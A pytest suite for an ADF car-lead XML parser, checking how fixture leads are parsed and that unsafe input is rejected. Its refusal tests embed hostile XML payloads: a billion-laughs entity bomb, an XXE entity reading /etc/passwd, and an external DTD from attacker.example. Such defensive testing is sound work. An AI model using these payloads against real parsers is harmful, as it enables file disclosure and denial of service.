"""ADF adapter: every real fixture reads as a person reads it; unsafe or non-ADF bodies fail."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from intake.adapters.adf import AdfError, parse_adf
from intake.domain.submission import LeadSubmission, VehicleIn
from tests.paths import ADF_DIR, OTHER_DIR, fixture_files, needs_fixtures


def _one(file_name: str) -> LeadSubmission:
    [lead] = parse_adf((ADF_DIR / file_name).read_bytes())
    return lead


def _at(
    year: int, month: int, day: int, hour: int, minute: int, second: int = 0, *, offset_hours: float
) -> datetime:
    zone = timezone(timedelta(hours=offset_hours))
    return datetime(year, month, day, hour, minute, second, tzinfo=zone)


def _assert_when(actual: datetime | None, expected: datetime) -> None:
    # Equal instants are not enough: the offset the source wrote must survive too.
    assert actual == expected
    assert actual is not None and actual.utcoffset() == expected.utcoffset()


def _adf(prospect_body: str, *, prospects: int = 1) -> str:
    return "<adf>" + f"<prospect>{prospect_body}</prospect>" * prospects + "</adf>"


# -- one test per real fixture ----------------------------------------------------------------


@needs_fixtures
def test_every_adf_fixture_has_a_test_below() -> None:
    assert sorted(p.name for p in ADF_DIR.glob("*.xml")) == [
        "activix_crm_doc_full_extensions_01.xml",
        "adf_spec_full_example_vendor_extension_01.xml",
        "adf_spec_minimal_smart_quotes_01.xml",
        "cargurus_ca_utf16_declared_01.xml",
        "everlogic_required_skeleton_empty_values_01.xml",
        "fetchauto_no_vehicle_employment_01.xml",
        "launchlabs_malformed_autolink_url_02.xml",
        "launchlabs_no_xmldecl_cdata_leadtype_01.xml",
        "mudd_elead_tabs_cdata_url_01.xml",
        "truecar_vehicle_id_decimal_price_01.xml",
    ]


@needs_fixtures
def test_cargurus_single_byte_text_declared_utf16() -> None:
    lead = _one("cargurus_ca_utf16_declared_01.xml")

    assert (lead.first_name, lead.last_name) == ("Joe", "Fakey")
    assert lead.email == "joefakey22@example.com"
    assert lead.phone == "5195550114"
    assert lead.other_phones == []
    assert lead.vehicle == VehicleIn(
        year="2016",
        make="RAM",
        model="2500",
        trim="Laramie Mega Cab 4WD 6.7 Cummins | No Accident | Safety Included",
        vin="3C6UR5ML5GG359865",
        stock="D9760",
        condition="Used",
        price="34995",
        interest="buy",
    )
    assert lead.comments == (
        "I'm interested in this 2016 RAM 2500 and I'd like to know if it's still available."
    )
    _assert_when(lead.requested_at, _at(2026, 3, 16, 20, 37, 3, offset_hours=0))
    assert lead.lead_type == "Email"  # <id source="leadtype"> is a type, not the lead's id
    assert lead.source_lead_id is None
    assert lead.provider == "CarGurus"
    assert lead.extensions == {
        "provider": {
            "id": {"source": "partner", "text": "CarGurus"},
            "service": "CarGurus",
            "url": "https://cargurus.i/Mk9ez",
        },
        "vehicle": {"condition": "Used"},
    }


@needs_fixtures
def test_fetchauto_full_name_in_type_no_vehicle_employment_kept() -> None:
    lead = _one("fetchauto_no_vehicle_employment_01.xml")

    assert lead.full_name == "Test user"
    assert (lead.first_name, lead.last_name) == (None, None)
    assert lead.email == "test@fetchauto.example"
    assert lead.phone == "778-555-4474"
    assert lead.vehicle is None
    assert lead.trade_ins == []
    assert lead.source_lead_id == "1"
    _assert_when(lead.requested_at, _at(2018, 4, 15, 15, 30, 20, offset_hours=-8))
    assert lead.provider == "Fetch Auto"
    assert lead.extensions["customer"] == {
        "employment": {
            "status": "fulltime",
            "employer": "Telus",
            "occupation": "Regional manager",
            "monthlyincome": "1000",
            "monthsatemployer": "3",
            "yearsatemployer": "2",
        }
    }
    assert lead.extensions["contact"]["address"]["postalcode"] == "V5Y0A0"
    assert lead.extensions["contact"]["address"]["ownershiptype"] == "own"
    # The provider's own phone and contact are not the customer's.
    assert lead.extensions["provider"]["phone"] == "1-888-555-0160"
    assert lead.extensions["provider"]["contact"]["name"] == {
        "type": "business",
        "text": "Fetch Auto",
    }


@needs_fixtures
def test_activix_complete_document_with_extensions() -> None:
    lead = _one("activix_crm_doc_full_extensions_01.xml")

    assert (lead.first_name, lead.last_name, lead.full_name) == ("Test", "Activix 2", None)
    assert lead.email == "test@crm.example.ca"
    assert lead.phone == "+14385550108"
    assert lead.other_phones == []  # the same number for day, evening and cell
    assert lead.vehicle == VehicleIn(
        year="2020",
        make="Volvo",
        model="XC90",
        trim="R-Design",
        vin="2GTEK19R7V1511644",
        stock="V12345",
        condition="new",
        price="59999.99",  # the vehicle's price, not the option's 1460.99
        currency="CAD",
        odometer="1500",
        odometer_units="km",
        interest="buy",
        comments="Demo car",
    )
    assert lead.comments == "Can you deliver the car to my house?"
    assert lead.source_lead_id == "12345"
    _assert_when(lead.requested_at, _at(2020, 4, 28, 15, 30, 20, offset_hours=-5))
    assert lead.provider == "Activix"
    assert lead.campaign == "Red Tag Sale"
    ext = lead.extensions
    assert ext["provider"]["form"] == "Financing request"
    assert ext["provider"]["referrer"] == "Google"
    assert ext["provider"]["service"] == "ABC Motors' Website"
    assert ext["provider"]["navigationhistory"].splitlines()[0] == (
        "04/28/2020 - 22:10:25 - https://abcmotors.com"
    )
    assert "campaign" not in ext["provider"]  # mapped, so not repeated
    assert ext["customer"] == {
        "timeframe": {
            "description": "Changing car soon.",
            "earliestdate": "2020-05-01T15:30:00-04:00",
        }
    }
    assert ext["vehicle"]["finance"] == {
        "method": "finance",
        "amount": [
            {"type": "downpayment", "currency": "CAD", "text": "10000"},
            {"type": "monthly", "currency": "CAD", "text": "425.25"},
        ],
        "term": "24",
        "rate": "3.9",
        "frequency": "bi-weekly",
        "mileageallowance": {"units": "km", "text": "20000"},
    }
    assert ext["vehicle"]["condition"] == "excellent"
    assert [c["exteriorcolor"] for c in ext["vehicle"]["colorcombination"]] == ["Black", "Gray"]
    assert ext["vehicle"]["option"]["price"] == {
        "type": "msrp",
        "currency": "CAD",
        "text": "1460.99",
    }
    assert ext["contact"]["locale"] == "fr"
    assert ext["contact"]["address"] == {
        "regioncode": "QC",
        "postalcode": "J1B2N3",
        "country": "CA",
    }
    assert ext["prospect"] == {"status": "new", "type": "quote"}
    assert ext["vendor"]["vendorname"] == "ABC Motors"


@needs_fixtures
def test_truecar_vehicle_id_is_not_the_lead_id() -> None:
    lead = _one("truecar_vehicle_id_decimal_price_01.xml")

    assert (lead.first_name, lead.last_name) == ("Tyler", "Davis")
    assert lead.email == "tyler.davis@example.com"
    assert lead.phone == "555-1234"
    assert lead.vehicle == VehicleIn(
        year="2024",
        make="BMW",
        model="3 Series",
        trim="330e",
        vin="3MW39FS00R8E48502",
        stock="5573P",
        condition="used",
        price="24845.0",
        interest="buy",
    )
    assert lead.source_lead_id == "1145085363"
    _assert_when(lead.requested_at, _at(2026, 1, 1, 0, 18, offset_hours=-8))
    assert lead.provider is None
    assert lead.extensions == {"vehicle": {"id": {"source": "2122", "text": "96987"}}}


@needs_fixtures
def test_launchlabs_no_declaration_cdata_comments_placeholders_as_written() -> None:
    lead = _one("launchlabs_no_xmldecl_cdata_leadtype_01.xml")

    assert (lead.first_name, lead.last_name, lead.full_name) == ("Example", "Example", "Example")
    assert lead.email is None
    assert lead.phone == "(000) 000-0000"  # rejecting placeholders is the normaliser's job
    assert lead.vehicle == VehicleIn(condition="new", interest="buy")
    assert lead.comments is not None
    assert lead.comments.splitlines() == [
        "Click for full customer profile: https://example.com/profile",
        "Customer converted using Example 1 Tap Lead Button: Request Information",
        "Customer has been sent the following message:",
        "We will be in touch with you soon with the information you requested.",
        "Thank you for choosing Example Dealer.",
    ]
    assert lead.requested_at == datetime(2025, 9, 22, 18, 7)  # no zone written: naive
    assert lead.source_lead_id == "Example"
    assert lead.lead_type == "Sales"
    assert lead.provider == "Example"
    assert lead.extensions["provider"]["url"] == "https://example.com"
    assert lead.extensions["vendor"] == {
        "contact": {"name": {"part": "full", "text": "Example Dealer"}}
    }


@needs_fixtures
def test_launchlabs_autolinked_url_is_repaired_and_cdata_left_alone() -> None:
    lead = _one("launchlabs_malformed_autolink_url_02.xml")

    assert lead.extensions["provider"]["url"] == "https://example.com"
    assert lead.comments is not None
    assert lead.comments.startswith(
        "Click for full customer profile: <https://example.com/profile>"
    )
    assert lead.comments.endswith("Thank you for choosing Example Dealer.")
    assert (lead.first_name, lead.last_name, lead.full_name) == ("Example", "Example", "Example")
    assert lead.phone == "(000) 000-0000"
    assert lead.vehicle == VehicleIn(condition="new", interest="buy")
    assert lead.requested_at == datetime(2025, 9, 22, 18, 7)
    assert (lead.source_lead_id, lead.lead_type, lead.provider) == ("Example", "Sales", "Example")


@needs_fixtures
def test_mudd_tabs_and_cdata_url() -> None:
    lead = _one("mudd_elead_tabs_cdata_url_01.xml")

    assert (lead.first_name, lead.last_name) == ("Dave", "Tester")
    assert lead.email == "dave.tester@example.com"
    assert lead.phone == "9876543210"
    assert lead.vehicle == VehicleIn(year="2010", make="Toyota", model="Corolla")
    assert lead.comments == "This is a test."
    _assert_when(lead.requested_at, _at(2015, 5, 4, 13, 3, 2, offset_hours=-5))
    assert lead.provider == "Mudd Advertising"
    assert lead.extensions["provider"] == {"service": "SEM", "url": "https://mudd.com"}
    # The dealer's contact is the vendor's, never the customer's.
    assert lead.extensions["vendor"]["contact"]["email"] == "dave@dealer.example.com"


@needs_fixtures
def test_everlogic_empty_skeleton_is_one_empty_submission() -> None:
    lead = _one("everlogic_required_skeleton_empty_values_01.xml")

    assert lead == LeadSubmission(email="mailto:")
    assert lead.requested_at is None
    assert lead.extensions == {}  # elements without any text carry nothing to keep


@needs_fixtures
def test_spec_minimal_example_with_curly_quoted_declaration() -> None:
    lead = _one("adf_spec_minimal_smart_quotes_01.xml")

    assert lead.full_name == "John Doe"
    assert (lead.first_name, lead.last_name, lead.email) == (None, None, None)
    assert lead.phone == "393-999-3922"
    assert lead.vehicle == VehicleIn(year="1999", make="Chevrolet", model="Blazer")
    _assert_when(lead.requested_at, _at(2000, 3, 30, 15, 30, 20, offset_hours=-8))
    assert lead.extensions == {
        "vendor": {"contact": {"name": {"part": "full", "text": "Acura of Bellevue"}}}
    }


@needs_fixtures
def test_spec_full_example_keeps_vendor_extension() -> None:
    lead = _one("adf_spec_full_example_vendor_extension_01.xml")

    assert (lead.first_name, lead.last_name) == ("John", "Doe")
    assert lead.email == "jdoe@example.com"
    assert lead.phone == "393-999-3922"
    assert lead.vehicle == VehicleIn(
        year="1997",
        make="Chevrolet",
        model="Blazer",
        vin="1GNDT13W5V2200000",
        condition="used",
        price="26995",
        currency="USD",
        interest="buy",
    )
    assert lead.comments == "Can deliver by Thursday?"
    assert lead.source_lead_id == "38889"
    _assert_when(lead.requested_at, _at(2000, 3, 30, 15, 30, 20, offset_hours=-8))
    assert lead.provider == "CarPoint"
    assert lead.extensions["vehicle"] == {
        "option": {"optionname": "Sport", "manufacturercode": "p394"},
        "partner-score": {"value": "hot", "text": "97"},
    }
    assert lead.extensions["vendor"] == {"vendorname": "Koons Internet Outlet"}
    assert lead.extensions["provider"] == {"service": "Used Car Classifieds"}


# -- structure --------------------------------------------------------------------------------


def test_two_prospects_give_two_submissions_in_order() -> None:
    names = '<customer><contact><name part="full">{}</name></contact></customer>'
    body = f"<adf><prospect>{names.format('Ann Roe')}</prospect>"
    body += f"<prospect><id source='x'>2</id>{names.format('Bob Poe')}</prospect></adf>"

    leads = parse_adf(body)

    assert [lead.full_name for lead in leads] == ["Ann Roe", "Bob Poe"]
    assert [lead.source_lead_id for lead in leads] == [None, "2"]


def test_trade_ins_are_told_apart_from_the_vehicle_of_interest() -> None:
    body = _adf(
        '<vehicle interest="trade-in" status="used"><year>2012</year><make>Honda</make>'
        '<model>Civic</model><odometer units="mi">98000</odometer><color>red</color></vehicle>'
        '<vehicle interest="buy" status="new"><year>2025</year><make>Kia</make>'
        "<model>EV6</model></vehicle>"
        '<vehicle interest="sell"><make>Ford</make><model>Focus</model></vehicle>'
    )

    [lead] = parse_adf(body)

    assert lead.vehicle == VehicleIn(
        year="2025", make="Kia", model="EV6", condition="new", interest="buy"
    )
    assert lead.trade_ins == [
        VehicleIn(
            year="2012",
            make="Honda",
            model="Civic",
            condition="used",
            odometer="98000",
            odometer_units="mi",
            interest="trade-in",
        ),
        VehicleIn(make="Ford", model="Focus", interest="sell"),
    ]
    assert lead.extensions == {"trade_ins": [{"color": "red"}, {}]}


def test_a_second_wanted_vehicle_is_kept_in_extensions() -> None:
    body = _adf(
        '<vehicle><make>Kia</make></vehicle><vehicle interest="lease"><make>Audi</make></vehicle>'
    )

    [lead] = parse_adf(body)

    assert lead.vehicle == VehicleIn(make="Kia")
    assert lead.extensions == {"prospect": {"vehicle": {"interest": "lease", "make": "Audi"}}}


def test_phones_first_with_digits_is_primary_rest_deduplicated_fax_aside() -> None:
    body = _adf(
        "<customer><contact>"
        '<phone type="voice"></phone><phone type="fax">555-0100</phone><phone>n/a</phone>'
        '<phone type="cellphone">555-0101</phone><phone type="phone">555-0102</phone>'
        '<phone time="evening">555-0101</phone>'
        "</contact></customer>"
    )

    [lead] = parse_adf(body)

    assert lead.phone == "555-0101"
    assert lead.other_phones == ["555-0102"]
    assert lead.extensions == {"contact": {"phone": [{"type": "fax", "text": "555-0100"}, "n/a"]}}


def test_names_by_part_or_type_and_primary_contact() -> None:
    body = _adf(
        "<customer>"
        '<contact><name part="full">Other Person</name></contact>'
        '<contact primarycontact="1"><name part="first">Ann</name><name part="middle">B</name>'
        '<name part="last">Roe</name><email></email><email>ann@example.com</email></contact>'
        "</customer>"
    )

    [lead] = parse_adf(body)

    assert (lead.first_name, lead.last_name, lead.full_name) == ("Ann", "Roe", None)
    assert lead.email == "ann@example.com"
    assert lead.extensions == {
        "contact": {"name": {"part": "middle", "text": "B"}},
        "customer": {"contact": {"name": {"part": "full", "text": "Other Person"}}},
    }


def test_a_name_without_part_is_the_full_name() -> None:
    [lead] = parse_adf(
        _adf('<customer><contact><name type="individual">Ann Roe</name></contact></customer>')
    )

    assert lead.full_name == "Ann Roe"


@pytest.mark.parametrize(
    ("prospect_body", "lead_type"),
    [
        ("<leadtype>Sales</leadtype>", "Sales"),
        ('<id source="LeadType">Email</id>', "Email"),
        ("<provider><leadtype>Service</leadtype></provider>", "Service"),
    ],
)
def test_lead_type_from_element_or_id(prospect_body: str, lead_type: str) -> None:
    [lead] = parse_adf(_adf(prospect_body))

    assert lead.lead_type == lead_type
    assert lead.source_lead_id is None


def test_source_lead_id_skips_the_leadtype_id() -> None:
    [lead] = parse_adf(_adf('<id source="leadtype">Email</id><id source="Cobalt">777</id>'))

    assert (lead.source_lead_id, lead.lead_type) == ("777", "Email")


@pytest.mark.parametrize(
    "customer",
    [
        '<customer><id source="CRM">C-42</id><contact><email>a@example.com</email></contact>'
        "</customer>",
        '<customer><contact><id source="CRM">C-42</id><email>a@example.com</email></contact>'
        "</customer>",
    ],
)
def test_customer_id_is_the_source_lead_id_when_the_prospect_has_none(customer: str) -> None:
    [lead] = parse_adf(_adf(customer))

    assert lead.source_lead_id == "C-42"
    assert "C-42" not in str(lead.extensions)  # used, so not kept twice


def test_the_prospect_id_wins_over_the_customers() -> None:
    [lead] = parse_adf(_adf('<id source="X">P-1</id><customer><id>C-1</id></customer>'))

    assert lead.source_lead_id == "P-1"


def test_provider_falls_back_to_service() -> None:
    [lead] = parse_adf(_adf("<provider><service>Dealer Website</service></provider>"))

    assert lead.provider == "Dealer Website"


def test_element_names_match_case_insensitively_and_namespaces_are_ignored() -> None:
    body = (
        '<ADF xmlns="urn:example"><Prospect><ID Source="X">9</ID><Vehicle Interest="Trade-In">'
        "<Make>Ford</Make></Vehicle><Customer><Contact><Name Part='First'>Ann</Name>"
        "<EMAIL>ann@example.com</EMAIL></Contact></Customer></Prospect></ADF>"
    )

    [lead] = parse_adf(body)

    assert (lead.source_lead_id, lead.first_name, lead.email) == ("9", "Ann", "ann@example.com")
    assert lead.vehicle is None
    assert lead.trade_ins == [VehicleIn(make="Ford", interest="Trade-In")]


def test_autolinked_mailto_and_url_outside_cdata_become_text() -> None:
    body = _adf(
        "<customer><contact><email><mailto:ann@example.com></email></contact>"
        "<comments><https://example.com/a?b=1&c=2></comments></customer>"
    )

    [lead] = parse_adf(body)

    assert lead.email == "mailto:ann@example.com"  # prefix left for the normaliser
    assert lead.comments == "https://example.com/a?b=1&c=2"


# -- encodings --------------------------------------------------------------------------------

_NAMED = _adf('<customer><contact><name part="full">Juan Pérez</name></contact></customer>')


@pytest.mark.parametrize(
    ("declaration", "codec"),
    [
        ('<?xml version="1.0" encoding="utf-16"?>', "cp1252"),  # the .NET StringWriter lie
        ('<?xml version="1.0" encoding="utf-16"?>', "utf-8"),
        ('<?xml version="1.0" encoding="utf-8"?>', "latin-1"),
        ('<?xml version="1.0" encoding="iso-8859-1"?>', "utf-8-sig"),
        ('<?xml version="1.0" encoding="utf-8"?>', "utf-16"),  # with its BOM
        ("", "utf-16-le"),  # no BOM, no declaration
    ],
)
def test_decodes_by_the_bytes_not_the_declaration(declaration: str, codec: str) -> None:
    [lead] = parse_adf((declaration + _NAMED).encode(codec))

    assert lead.full_name == "Juan Pérez"


def test_str_body_with_a_wrong_declaration_is_read() -> None:
    [lead] = parse_adf('<?xml version="1.0" encoding="utf-16"?>' + _NAMED)

    assert lead.full_name == "Juan Pérez"


# -- dates ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("2020-04-28T15:30:20-05:00", _at(2020, 4, 28, 15, 30, 20, offset_hours=-5)),
        ("2018-04-15T15:30:20.000-08:00", _at(2018, 4, 15, 15, 30, 20, offset_hours=-8)),
        ("2020-04-28T5:30:20-05:00", _at(2020, 4, 28, 5, 30, 20, offset_hours=-5)),
        ("2020-04-28T15:30:20-05", _at(2020, 4, 28, 15, 30, 20, offset_hours=-5)),
        ("2020-04-28T15:30:20-0500", _at(2020, 4, 28, 15, 30, 20, offset_hours=-5)),
        ("2020-04-28T15:30:20+0530", _at(2020, 4, 28, 15, 30, 20, offset_hours=5.5)),
        ("2020-04-28T15:30:20Z", _at(2020, 4, 28, 15, 30, 20, offset_hours=0)),
    ],
)
def test_dates_with_a_zone_are_aware(written: str, expected: datetime) -> None:
    [lead] = parse_adf(_adf(f"<requestdate>{written}</requestdate>"))

    _assert_when(lead.requested_at, expected)


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("2025-09-22T18:07", datetime(2025, 9, 22, 18, 7)),
        ("2020-04-28T5:30:20", datetime(2020, 4, 28, 5, 30, 20)),
        ("2020-04-28 15:30:20", datetime(2020, 4, 28, 15, 30, 20)),
        ("2020-04-28", datetime(2020, 4, 28)),
    ],
)
def test_dates_without_a_zone_stay_naive(written: str, expected: datetime) -> None:
    [lead] = parse_adf(_adf(f"<requestdate>{written}</requestdate>"))

    assert lead.requested_at == expected
    assert lead.requested_at.tzinfo is None


@pytest.mark.parametrize("written", ["", "   "])
def test_an_empty_date_is_none(written: str) -> None:
    [lead] = parse_adf(_adf(f"<requestdate>{written}</requestdate>"))

    assert lead.requested_at is None
    assert lead.extensions == {}


def test_an_unreadable_date_is_none_and_kept_in_extensions() -> None:
    [lead] = parse_adf(_adf("<requestdate>28/04/2020 tomorrow</requestdate>"))

    assert lead.requested_at is None
    assert lead.extensions == {"prospect": {"requestdate": "28/04/2020 tomorrow"}}


# -- refusals ---------------------------------------------------------------------------------


def test_size_cap_is_checked_before_parsing() -> None:
    laughs = b'<!DOCTYPE adf [<!ENTITY a "aaaaaaaaaa">]><adf><prospect>&a;</prospect></adf>'

    with pytest.raises(AdfError) as caught:
        parse_adf(laughs, max_bytes=len(laughs) - 1)

    assert caught.value.field == "body"
    assert "limit" in caught.value.reason  # the size, not the DOCTYPE: nothing was parsed


def test_size_cap_counts_bytes_of_a_str_body() -> None:
    body = _adf("<comments>" + "é" * 100 + "</comments>")  # 100 characters, 200 UTF-8 bytes

    with pytest.raises(AdfError, match="limit"):
        parse_adf(body, max_bytes=len(body) + 50)
    assert len(parse_adf(body, max_bytes=len(body.encode()))) == 1


_BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE adf [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<adf><prospect><customer><comments>&lol3;</comments></customer></prospect></adf>"""

_EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE adf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<adf><prospect><customer><comments>&xxe;</comments></customer></prospect></adf>"""

_EXTERNAL_DTD = '<!DOCTYPE adf SYSTEM "http://attacker.example/adf.dtd"><adf><prospect/></adf>'


@pytest.mark.parametrize("body", [_BILLION_LAUGHS, _EXTERNAL_ENTITY, _EXTERNAL_DTD])
def test_a_doctype_is_refused(body: str) -> None:
    with pytest.raises(AdfError) as caught:
        parse_adf(body)

    assert caught.value.field == "body"
    assert "DOCTYPE" in caught.value.reason


def test_deep_nesting_is_refused() -> None:
    deep = "<x>" * 100 + "1" + "</x>" * 100

    with pytest.raises(AdfError, match="deeper than 64"):
        parse_adf(_adf(f"<vendor>{deep}</vendor>"))


def test_too_many_elements_are_refused() -> None:
    with pytest.raises(AdfError, match="more than 20,000 elements"):
        parse_adf(_adf("<x/>" * 20_001))


def test_too_many_elements_are_refused_as_they_are_parsed() -> None:
    # Refused at element 20,001, before the parser reaches what follows: not built whole first.
    with pytest.raises(AdfError, match="more than 20,000 elements"):
        parse_adf(_adf("<x/>" * 20_001 + "<not well-formed"))


@pytest.mark.parametrize(
    "body",
    ["Hi, I am interested in the 2016 RAM 2500. Call me!", "", "  \n ", '{"lead": 1}'],
)
def test_text_that_is_not_xml_is_refused(body: str) -> None:
    with pytest.raises(AdfError) as caught:
        parse_adf(body)

    assert caught.value.field == "body"
    assert "XML" in caught.value.reason


@needs_fixtures
def test_a_bare_cdata_notification_is_refused() -> None:
    body = (OTHER_DIR / "cargurus_phone_lead_notification_cdata_01.txt").read_bytes()

    with pytest.raises(AdfError) as caught:
        parse_adf(body)

    assert caught.value.field == "body"
    assert "CDATA" in caught.value.reason


@pytest.mark.parametrize("path", fixture_files(OTHER_DIR), ids=lambda p: p.name)
def test_no_other_lead_format_passes_for_adf(path: Path) -> None:
    with pytest.raises(AdfError):
        parse_adf(path.read_bytes())


def test_malformed_xml_is_refused_with_the_parser_reason() -> None:
    with pytest.raises(AdfError) as caught:
        parse_adf("<adf><prospect></adf>")

    assert caught.value.field == "body"
    assert caught.value.reason.startswith("not well-formed XML")


def test_a_root_that_is_not_adf_is_refused() -> None:
    with pytest.raises(AdfError) as caught:
        parse_adf("<lead><prospect/></lead>")

    assert caught.value.field == "adf"
    assert "<lead>" in caught.value.reason


def test_an_adf_without_prospect_is_refused() -> None:
    with pytest.raises(AdfError) as caught:
        parse_adf('<?xml version="1.0"?><ADF></ADF>')

    assert caught.value.field == "adf/prospect"


def test_adf_error_is_a_value_error() -> None:
    assert issubclass(AdfError, ValueError)
    error = AdfError("adf/prospect[1]/customer", "missing")
    assert (error.field, error.reason, str(error)) == (
        "adf/prospect[1]/customer",
        "missing",
        "adf/prospect[1]/customer: missing",
    )
